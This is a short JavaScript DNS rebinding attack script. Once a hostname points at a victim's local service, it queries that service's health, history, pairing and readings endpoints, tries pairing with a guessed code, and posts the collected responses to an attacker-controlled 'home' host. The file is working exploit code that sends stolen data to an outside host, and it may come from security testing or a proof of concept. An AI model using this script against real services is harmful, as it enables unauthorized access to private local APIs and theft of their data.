"use strict";
// Run on a name that has just been pointed at the victim: to the browser, the victim is this page's own site.
(async () => {
  const results = {};
  const ask = async (name, path, options = {}) => {
    const answer = await fetch(path, options);
    results[name] = `${answer.status} ${(await answer.text()).slice(0, 300)}`;
  };
  await fetch("/rebind", { method: "POST" });
  const json = { "Content-Type": "application/json" };
  await ask("health", "/health");
  await ask("page", "/");
  await ask("history", "/v1/history");
  await ask("pair", "/v1/pair", { method: "POST", headers: json, body: JSON.stringify({ code: "AAAAAAAA" }) });
  await ask("read", "/v1/readings", { method: "POST", headers: json, body: JSON.stringify({ text: "Read this." }) });
  const home = new URLSearchParams(location.search).get("home");
  await fetch(`${home}/result`, { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
})();
